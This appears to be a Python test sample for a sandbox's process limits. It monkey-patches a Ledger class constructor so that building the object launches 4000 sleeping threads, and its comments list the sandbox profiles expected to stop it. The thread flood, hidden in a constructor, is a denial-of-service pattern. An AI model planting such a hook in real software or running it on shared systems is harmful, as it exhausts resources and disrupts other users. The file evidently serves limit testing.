"""Starts threads endlessly.

A thread counts as a process.
"""
# stops: strong, reduced, practice
# seen: limit: more processes or threads

import threading
import time


def _bomb(self, engine, gateway):
    for _ in range(4000):
        threading.Thread(target=time.sleep, args=(20,), daemon=True).start()


Ledger.__init__ = _bomb
